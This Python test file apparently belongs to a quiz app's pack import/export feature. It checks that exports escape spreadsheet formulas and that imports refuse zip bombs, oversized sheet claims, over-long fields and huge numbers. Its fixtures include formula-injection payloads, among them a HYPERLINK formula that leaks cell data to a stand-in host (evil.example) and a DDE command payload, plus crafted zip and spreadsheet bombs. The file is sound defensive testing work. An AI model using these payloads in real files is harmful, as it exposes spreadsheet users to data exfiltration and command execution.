"""Hostile pack files: formulas in exports, spreadsheet bombs, over-long text, huge numbers."""

from __future__ import annotations

import csv
import io
import json
import re
import time
import tracemalloc
import zipfile

import pytest
from openpyxl import load_workbook

from quiz.extensions import db
from quiz.packs import PackFormatError, export_pack, import_pack
from quiz.packs.files import export_file, read_pack_file
from quiz.packs.kahoot import MAX_ROWS, MAX_UNZIPPED_BYTES
from quiz.packs.schema import MAX_LENGTH
from tests.helpers import logged_in, pack_document
from tests.web.test_import_export import csv_file, kahoot_book

FORMULAS = [
    '=HYPERLINK("http://evil.example/?"&A1,"Click")',
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(1+1)",
    "\t=1+1",
]


def refusal(data: bytes, name: str) -> list[str]:
    """The problems read_pack_file (then import_pack) reports for a file."""
    with pytest.raises(PackFormatError) as raised:
        import_pack(read_pack_file(data, name, "T"))
    return raised.value.errors


def _imported(document):
    pack = import_pack(document, status="draft")
    db.session.commit()
    return pack


def test_csv_export_writes_formulas_as_text_and_imports_them_back(app) -> None:
    document = pack_document(1)
    question = document["questions"][0]
    question["prompt"] = FORMULAS[0]
    for choice, formula in zip(question["choices"], FORMULAS[1:], strict=True):
        choice["text"] = formula
    pack = _imported(document)
    content = export_file(export_pack(pack), "csv", pack.slug).content.decode()
    cells = [cell for row in csv.reader(io.StringIO(content)) for cell in row]
    # No cell a spreadsheet would run: each starts with the apostrophe OWASP advises.
    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
    assert "'" + FORMULAS[0] in cells and "'@SUM(1+1)" in cells
    again = import_pack(read_pack_file(content.encode(), "p.csv", "Again"))
    assert again.questions[0].prompt == FORMULAS[0]
    assert [c.text for c in again.questions[0].choices] == [f.strip() for f in FORMULAS[1:]]


def test_kahoot_export_writes_formulas_as_text_cells(app) -> None:
    document = pack_document(1)
    document["questions"][0]["prompt"] = FORMULAS[0]
    document["questions"][0]["choices"][1]["text"] = "=1+1"
    pack = _imported(document)
    content = export_file(export_pack(pack), "kahoot", pack.slug).content
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    prompt, right = sheet["B9"], sheet["D9"]
    assert (prompt.value, prompt.data_type) == (FORMULAS[0], "s")
    assert (right.value, right.data_type) == ("=1+1", "s")
    assert prompt.quotePrefix and right.quotePrefix  # stays text when someone edits the cell
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        assert "<f>" not in archive.read("xl/worksheets/sheet1.xml").decode()


def test_csv_export_names_its_charset_once(app, make_pack, make_staff) -> None:
    pack = make_pack(1)
    client = logged_in(app.test_client(), make_staff())
    for fmt, expected in (("csv", "text/csv"), ("gift", "text/plain")):
        response = client.get(f"/studio/packs/{pack.id}/export/{fmt}")
        assert response.headers["Content-Type"] == f"{expected}; charset=utf-8"


def with_sheet_xml(data: bytes, edit) -> bytes:
    """The workbook with its first sheet's XML passed through `edit`."""
    source, out = zipfile.ZipFile(io.BytesIO(data)), io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            content = source.read(item.filename)
            if item.filename == "xl/worksheets/sheet1.xml":
                content = edit(content.decode()).encode()
            target.writestr(item, content)
    return out.getvalue()


GOOD_KAHOOT_ROW = (1, "Capital of France?", "Paris", "Lyon", None, None, 30, 1)


def peak_memory_growth(read) -> tuple[list[str], int]:
    """The problems `read` raises and the most memory Python allocated meanwhile (kB)."""
    tracemalloc.start()
    try:
        with pytest.raises(PackFormatError) as raised:
            read()
        peak = tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()
    return raised.value.errors, peak // 1024


def test_a_sheet_claiming_every_cell_is_refused_before_it_is_read(app) -> None:
    claim = with_sheet_xml(
        kahoot_book(GOOD_KAHOOT_ROW),
        lambda xml: re.sub(r'<dimension ref="[^"]+"', '<dimension ref="A1:XFD1048576"', xml),
    )
    assert len(claim) < 10_000
    started = time.monotonic()
    errors, grown = peak_memory_growth(lambda: read_pack_file(claim, "bomb.xlsx"))
    assert errors == [
        f"The spreadsheet has 1,048,576 rows and 16,384 columns; a pack spreadsheet may use at"
        f" most {MAX_ROWS:,} rows and 50 columns (row 8 is the header, a question per row"
        f" after it)."
    ]
    assert time.monotonic() - started < 2 and grown < 50_000


def test_a_sheet_whose_claim_is_false_is_read_only_to_the_row_limit(app) -> None:
    # A modest claim, and a cell in the last row and column of the sheet.
    far_cell = '<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'
    data = with_sheet_xml(
        kahoot_book(GOOD_KAHOOT_ROW),
        lambda xml: re.sub(r'<dimension ref="[^"]+"/>', "", xml).replace(
            "</sheetData>", far_cell + "</sheetData>"
        ),
    )
    started = time.monotonic()
    errors, grown = peak_memory_growth(lambda: read_pack_file(data, "liar.xlsx"))
    assert errors == [
        f"The spreadsheet has more than {MAX_ROWS:,} rows; a pack spreadsheet may use at most"
        f" {MAX_ROWS:,} rows and 50 columns (row 8 is the header, a question per row after it)."
    ]
    assert time.monotonic() - started < 2 and grown < 50_000


def test_a_zip_bomb_is_refused_by_its_unzipped_size(app) -> None:
    padding = "<!--" + " " * (MAX_UNZIPPED_BYTES + 1000) + "-->"
    bomb = with_sheet_xml(kahoot_book(GOOD_KAHOOT_ROW), lambda xml: xml + padding)
    assert len(bomb) < 100_000  # spaces compress a thousandfold
    errors, grown = peak_memory_growth(lambda: read_pack_file(bomb, "bomb.xlsx"))
    assert len(errors) == 1 and errors[0].startswith("The spreadsheet unpacks to 20,9")
    assert f"at most {MAX_UNZIPPED_BYTES:,} bytes" in errors[0] and grown < 20_000


def test_a_sheet_within_the_limits_still_imports(app) -> None:
    rows = [(n, f"Question {n}?", "Yes", "No", None, None, 20, 1) for n in range(1, 401)]
    document = read_pack_file(kahoot_book(*rows), "big.xlsx", "Big")
    assert len(document["questions"]) == 400


def long_json_pack(**changes) -> bytes:
    """A valid pack document with some fields replaced."""
    document = pack_document(1)
    question = document["questions"][0]
    for key, value in changes.items():
        if key == "option":
            question["choices"][0]["text"] = value
        elif key in ("title", "description"):
            document[key] = value
        elif key == "source_title":
            document["source"]["title"] = value
        else:
            question[key] = value
    return json.dumps(document).encode()


@pytest.mark.parametrize(
    ("field", "expected"),
    [
        ("title", "The title is longer than 200 characters (1,900,000)."),
        ("description", "The description is longer than 2,000 characters (1,900,000)."),
        ("source_title", "The source title is longer than 300 characters (1,900,000)."),
        ("prompt", "Question 1: the prompt is longer than 1,000 characters (1,900,000)."),
        ("option", "Question 1: an option is longer than 300 characters (1,900,000)."),
        ("explanation", "Question 1: the explanation is longer than 2,000 characters"),
        ("evidence", "Question 1: the evidence is longer than 5,000 characters"),
        ("kind", "Question 1: the kind is longer than 40 characters"),
    ],
)
def test_json_import_applies_every_length_limit(app, field: str, expected: str) -> None:
    errors = refusal(long_json_pack(**{field: "x" * 1_900_000}), "long.json")
    assert any(e.startswith(expected) for e in errors), errors


def test_the_limits_the_forms_apply_are_the_limits_imports_apply(app) -> None:
    from quiz.studio.forms import PackMetaForm, QuestionForm

    def form_max(field) -> int:
        return next(v.max for v in field.kwargs["validators"] if hasattr(v, "max"))

    assert form_max(PackMetaForm.title) == MAX_LENGTH["title"]
    assert form_max(PackMetaForm.description) == MAX_LENGTH["description"]
    assert form_max(QuestionForm.prompt) == MAX_LENGTH["prompt"]
    assert form_max(QuestionForm.explanation) == MAX_LENGTH["explanation"]
    # At the limit is fine.
    data = long_json_pack(title="t" * 200, prompt="p" * 999 + "?", option="o" * 300)
    assert import_pack(read_pack_file(data, "ok.json")).title == "t" * 200


def test_csv_and_kahoot_imports_apply_the_length_limits_by_row(app) -> None:
    row = f"{'Q' * 1001},Ann,Bob,,,,,2,,30,easy,,custom"
    assert refusal(csv_file(row), "p.csv") == [
        "Row 2: the prompt is longer than 1,000 characters (1,001)."
    ]
    book = kahoot_book((1, "Fine?", "A" * 301, "B", None, None, 20, 1))
    assert refusal(book, "p.xlsx") == ["Row 9: an option is longer than 300 characters (301)."]


@pytest.mark.parametrize(
    ("data", "name", "expected"),
    [
        (b'{"format": "quiz-pack", "x": ' + b"9" * 5000 + b"}", "p.json", "a number too long"),
        (b"[" * 100_000 + b"]" * 100_000, "p.json", "nests lists or objects too deeply"),
        (csv_file("Who?,Ann,Bob,,,,,1,,%s,easy,,custom" % ("9" * 5000)), "p.csv", "Row 2: the"),
        (csv_file("Who?,Ann,Bob,,,,,%s,,20,easy,,custom" % ("9" * 5000)), "p.csv", "Row 2: corr"),
        (csv_file("Who?,Ann,Bob,,,,,1,,%s,easy,,custom" % ("9" * 400)), "p.csv", "Row 2: the"),
    ],
)
def test_huge_numbers_and_deep_nesting_are_problems_not_crashes(app, data, name, expected):
    errors = refusal(data, name)
    assert any(e.startswith(expected) or expected in e for e in errors), errors
    assert all(len(e) < 300 for e in errors)  # no 5,000-digit number quoted back


def test_huge_numbers_in_an_upload_give_a_400_page(app, make_staff) -> None:
    client = logged_in(app.test_client(), make_staff())
    data = b'{"format": "quiz-pack", "version": ' + b"9" * 5000 + b"}"
    response = client.post(
        "/studio/import",
        data={"upload": (io.BytesIO(data), "p.json")},
        content_type="multipart/form-data",
    )
    assert response.status_code == 400
    assert "a number too long to be part of a pack" in response.get_data(as_text=True)


def test_a_generated_pack_with_an_over_long_headline_is_shortened_not_refused(
    app, make_staff
) -> None:
    from quiz.studio.services.authoring import create_pack_from_article

    headline = "Singer Jane Doe Shares News " * 20  # 560 characters
    body = "Jane Doe, 34, married Tom Roe in Paris in 2019, the singer said on Monday."
    # A Markdown headline: the engine keeps it whole, however long.
    pack = create_pack_from_article(f"# {headline.strip()}\n\n{body}\n", make_staff())
    assert 150 < len(pack.title) <= MAX_LENGTH["title"] and pack.title.endswith("…")
    assert len(pack.source_title) <= MAX_LENGTH["source title"]
    assert pack.article is not None and pack.article.title == pack.source_title
